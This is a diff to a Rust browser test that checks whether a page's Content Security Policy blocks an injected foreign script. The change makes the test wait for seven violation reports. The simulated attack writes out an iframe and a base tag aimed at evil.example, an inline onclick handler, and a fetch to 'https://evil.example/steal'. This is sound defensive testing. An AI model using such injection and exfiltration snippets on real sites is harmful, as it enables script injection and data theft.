@@ -31,7 +31,8 @@ async fn a_purchase_on_the_shops_page_breaches_nothing() {
     assert_eq!(complaints_of_a_purchase("US", "embedded").await, [""; 0]);
 }
 
-/// What each directive blocked, after a try at everything that a foreign script would do.
+/// What each directive blocked, after a try at everything that a foreign script would do. The
+/// browser tells of its seven breaches in its own time.
 async fn blocked(browser: &Browser) -> Value {
     let attack = "const done = arguments[0]; const seen = new Set(); \
         document.addEventListener('securitypolicyviolation', (breach) => \
@@ -44,8 +45,11 @@ async fn blocked(browser: &Browser) -> Value {
         put('iframe', {src: 'https://evil.example/x'}); \
         put('base', {href: 'https://evil.example/'}); \
         document.body.setAttribute('onclick', 'window.wasRun = true'); \
-        fetch('https://evil.example/steal').catch(() => 0).then(() => \
-            setTimeout(() => done([[...seen].sort(), window.wasRun ?? false]), 200));";
+        const tell = () => done([[...seen].sort(), window.wasRun ?? false]); \
+        const patience = Date.now() + 5000; \
+        const look = () => seen.size < 7 && Date.now() < patience \
+            ? setTimeout(look, 50) : setTimeout(tell, 200); \
+        fetch('https://evil.example/steal').catch(() => 0).then(look);";
     browser.client.execute_async(attack, Vec::new()).await.unwrap()
 }
 
